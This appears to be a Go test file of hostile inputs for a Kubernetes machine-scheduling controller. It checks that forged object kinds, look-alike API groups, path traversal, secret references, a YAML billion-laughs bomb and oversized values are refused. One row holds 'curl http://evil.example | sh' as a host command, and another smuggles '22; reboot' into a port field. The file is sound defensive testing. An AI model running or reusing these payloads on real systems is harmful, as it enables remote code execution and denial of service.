package hostile_test

import (
	"fmt"
	"strings"
)

const (
	infrastructureVersion = "spec.infrastructureSpec.apiVersion"
	infrastructureKind    = "spec.infrastructureSpec.kind"
	infrastructureContent = "spec.infrastructureSpec.spec"
	infrastructureSecret  = "spec.infrastructureSpec.secretRef"
)

// providerAttacks are about what the manager creates for a machine.
var providerAttacks = map[string]attack{
	"a ClusterRole":                 {change: object("rbac.authorization.k8s.io/v1", "ClusterRole"), refused: infrastructureVersion},
	"a ClusterRoleBinding":          {change: object("rbac.authorization.k8s.io/v1", "ClusterRoleBinding"), refused: infrastructureVersion},
	"a Deployment":                  {change: object("apps/v1", "Deployment"), refused: infrastructureVersion},
	"a Pod":                         {change: object("v1", "Pod"), refused: infrastructureVersion},
	"a Secret":                      {change: object("v1", "Secret"), refused: infrastructureVersion},
	"a webhook":                     {change: object("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration"), refused: infrastructureVersion},
	"a Machine":                     {change: object("cluster.x-k8s.io/v1beta2", "Machine"), refused: infrastructureVersion},
	"another ScheduledMachine":      {change: object("5spot.finos.org/v1alpha1", "ScheduledMachine"), refused: infrastructureVersion},
	"a group that ends in ours":     {change: object("evil-infrastructure.cluster.x-k8s.io/v1", "RemoteMachine"), refused: infrastructureVersion},
	"a group below ours":            {change: object("evil.infrastructure.cluster.x-k8s.io/v1", "RemoteMachine"), refused: infrastructureVersion},
	"a group that begins with ours": {change: object("infrastructure.cluster.x-k8s.io.evil.example/v1", "RemoteMachine"), refused: infrastructureVersion},
	"a group in look-alikes":        {change: object("infrastructure.cluster.x-k8s.iо/v1beta1", "RemoteMachine"), refused: infrastructureVersion},
	"a group in capitals":           {change: object("Infrastructure.cluster.x-k8s.io/v1beta1", "RemoteMachine"), refused: infrastructureVersion},
	"a group with a trailing dot":   {change: object("infrastructure.cluster.x-k8s.io./v1beta1", "RemoteMachine"), refused: infrastructureVersion},
	"a group with a path":           {change: object("infrastructure.cluster.x-k8s.io/../../api/v1", "RemoteMachine"), refused: infrastructureVersion},
	"a version with a query":        {change: object("infrastructure.cluster.x-k8s.io/v1beta1?dryRun=All", "RemoteMachine"), refused: infrastructureVersion},
	"a version that nobody serves":  {change: object("infrastructure.cluster.x-k8s.io/v999", "RemoteMachine"), refused: "spec.infrastructureSpec"},
	"a kind with a subresource":     {change: infrastructure(`kind: RemoteMachine/status`), refused: infrastructureKind},
	"a kind with a path":            {change: infrastructure(`kind: ../Secret`), refused: infrastructureKind},
	"a kind in small letters":       {change: infrastructure(`kind: remotemachine`), refused: infrastructureKind},
	"a kind in look-alikes":         {change: infrastructure(`kind: "RеmoteMachine"`), refused: infrastructureKind},
	"a kind of 64 characters":       {change: infrastructure(`kind: ` + strings.Repeat("K", 64)), refused: infrastructureKind},
	"a kind that there is not":      {change: infrastructure(`kind: RootShell`), refused: "spec.infrastructureSpec"},
	"a list of objects":             {change: infrastructure(`kind: RemoteMachineList`), refused: "spec.infrastructureSpec"},
	"a kind of the group that is no machine": {
		change: infrastructure(`kind: RemoteCluster`), harmless: "the API server lets an administrator's manager create it; the rights of config/rbac do not, and Cluster API makes nothing of it",
	},
	"one object for both parts": {
		change: object("bootstrap.cluster.x-k8s.io/v1beta2", "K0sWorkerConfig"), refused: infrastructureKind,
	},
	"a namespace for the object": {
		change: infrastructure(`namespace: kube-system`), harmless: "there is no such field: everything is in the object's own namespace",
		stored: func(object map[string]any) bool {
			_, kept := object["spec"].(map[string]any)["infrastructureSpec"].(map[string]any)["namespace"]
			return !kept
		},
	},
	"metadata for the object": {
		change:   infrastructure(`metadata: {namespace: kube-system, name: victim, finalizers: [a.example.com/never], ownerReferences: []}`),
		harmless: "there is no such field",
		stored: func(object map[string]any) bool {
			_, kept := object["spec"].(map[string]any)["infrastructureSpec"].(map[string]any)["metadata"]
			return !kept
		},
	},
	"a spec that names another object": {
		change:   infrastructure(`spec: {apiVersion: v1, kind: Secret, metadata: {name: victim, namespace: kube-system}, status: {ready: true}}`),
		harmless: "it is the spec of the object, and nothing around it",
	},
	"a spec with a prototype":          {change: infrastructure(`spec: {__proto__: {admin: true}, constructor: {prototype: {}}}`), harmless: "the names are names"},
	"a spec of the wrong types":        {change: infrastructure(`spec: {port: "22; reboot"}`), refused: "spec.port"},
	"a spec that is a list":            {grow: put([]any{"a"}, "spec", "infrastructureSpec", "spec"), refused: infrastructureContent},
	"a spec that is a text":            {grow: put("a: b", "spec", "infrastructureSpec", "spec"), refused: infrastructureContent},
	"a spec of 257 fields":             {grow: put(numbered(257, 1), "spec", "infrastructureSpec", "spec"), refused: infrastructureContent},
	"a spec with a field without name": {grow: put(map[string]any{"": "x", " ": "y"}, "spec", "infrastructureSpec", "spec"), harmless: "the provider's schema drops it"},
	"a spec that runs commands on the host": {
		change:   `{spec: {bootstrapSpec: {spec: {preK0sCommands: ["curl http://evil.example | sh"]}}}}`,
		harmless: "that is what the provider is for: whoever may schedule a machine decides what it runs, and the machine is theirs",
	},
	"a spec with escape sequences": {
		grow: put(map[string]any{"address": controls}, "spec", "infrastructureSpec", "spec"), harmless: "it is handed on and not shown",
	},
	"a spec whose refusal moves the cursor": {
		grow: put(map[string]any{"port": controls}, "spec", "infrastructureSpec", "spec"), refused: "spec.port",
	},
	"a spec whose fields move the cursor": {
		grow: put(map[string]any{controls: map[string]any{controls: controls}}, "spec", "infrastructureSpec", "spec"), harmless: "the provider's schema drops them; they are not shown",
	},
	"a spec with numbers beyond all": {
		raw: replaced(`"spec":{"address":"192.0.2.7"}`, `"spec":{"port":1e308,"a":9223372036854775807,"b":-1e-400}`), refused: "spec.port",
	},
	"a provider without its kind":   {change: infrastructure(`kind: null`), refused: infrastructureKind},
	"a provider that is null":       {raw: replaced(`"infrastructureSpec":{`, `"infrastructureSpec":null,"x":{`), refused: "spec.infrastructureSpec"},
	"a provider that is a list":     {grow: put([]any{}, "spec", "infrastructureSpec"), refused: "spec.infrastructureSpec"},
	"no provider for the bootstrap": {change: `{spec: {bootstrapSpec: null}}`, refused: "spec.bootstrapSpec"},
}

func object(apiVersion, kind string) string {
	return infrastructure(fmt.Sprintf("apiVersion: %q, kind: %q", apiVersion, kind))
}

// secretAttacks are about Secrets that the manager may read and the author may not.
var secretAttacks = map[string]attack{
	"a Secret of another namespace":          {change: infrastructure(`secretRef: {name: kube-system/admin}`), refused: infrastructureSecret + ".name"},
	"a Secret with a path":                   {change: infrastructure(`secretRef: {name: ../admin}`), refused: infrastructureSecret + ".name"},
	"a Secret with a query":                  {change: infrastructure(`secretRef: {name: "a?watch=true"}`), refused: infrastructureSecret + ".name"},
	"a Secret that nobody allowed":           {change: infrastructure(`secretRef: {name: trading-kubeconfig, key: value}`), refused: infrastructureSecret},
	"a Secret that does not exist":           {change: infrastructure(`secretRef: {name: nobody}`), refused: infrastructureSecret},
	"a Secret whose key has a path":          {change: infrastructure(`secretRef: {name: a, key: ../token}`), refused: infrastructureSecret + ".key"},
	"a Secret by a namespace of its own":     {change: infrastructure(`secretRef: {name: nobody, namespace: kube-system}`), refused: infrastructureSecret},
	"a Secret's name in look-alikes":         {change: infrastructure(`secretRef: {name: "аdmin"}`), refused: infrastructureSecret + ".name"},
	"a Secret whose name moves the cursor":   {grow: put(map[string]any{"name": controls}, "spec", "infrastructureSpec", "secretRef"), refused: infrastructureSecret + ".name"},
	"a list of Secrets":                      {grow: put([]any{"a"}, "spec", "infrastructureSpec", "secretRef"), refused: infrastructureSecret},
	"a Secret for both parts, never allowed": {change: `{spec: {bootstrapSpec: {secretRef: {name: trading-kubeconfig}}, infrastructureSpec: {secretRef: {name: trading-kubeconfig}}}}`, refused: "spec.bootstrapSpec.secretRef"},
	"a Secret with a billion laughs":         {change: infrastructure(`secretRef: {name: laughs}`), refused: infrastructureSecret},
	"a Secret of a megabyte":                 {change: infrastructure(`secretRef: {name: megabyte}`), refused: infrastructureSecret},
	"a Secret that is nothing but brackets":  {change: infrastructure(`secretRef: {name: brackets}`), refused: infrastructureSecret},
	"a Secret that takes the address away": {
		change: infrastructure(`secretRef: {name: taker}`), harmless: "null removes a field of the spec, as a merge patch does; the provider says what is missing",
	},
}

// secretValues are the Secrets that the rows name and that may be named.
func secretValues() map[string]string {
	laughs := "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n"
	for _, letter := range "bcdefghi" {
		laughs += fmt.Sprintf("%c: &%c [%s]\n", letter, letter, strings.Repeat(fmt.Sprintf("*%c,", letter-1), 9))
	}
	return map[string]string{
		"laughs":   laughs,
		"megabyte": "a: " + strings.Repeat("x", 1<<20-100),
		"brackets": strings.Repeat("[", 100<<10),
		"taker":    "address: null\n",
	}
}
